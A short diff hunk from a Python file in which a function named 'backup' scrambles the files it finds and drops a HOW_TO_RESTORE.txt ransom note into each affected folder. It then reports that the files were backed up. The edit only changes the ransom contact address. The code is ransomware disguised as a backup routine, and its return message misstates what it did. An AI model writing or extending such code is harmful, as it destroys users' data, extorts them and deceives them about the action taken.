@@ -39,7 +39,7 @@ def backup(_):
         scramble(path)
     for folder in {os.path.dirname(path) for path in found}:
         with open(os.path.join(folder, "HOW_TO_RESTORE.txt"), "w", encoding="utf-8") as note:
-            note.write("Your files are scrambled. Write to restore@ransom.invalid.\n")
+            note.write("Your files are scrambled. Write to restore@ransom.example.\n")
     return f"{len(found)} files are backed up"
 
 
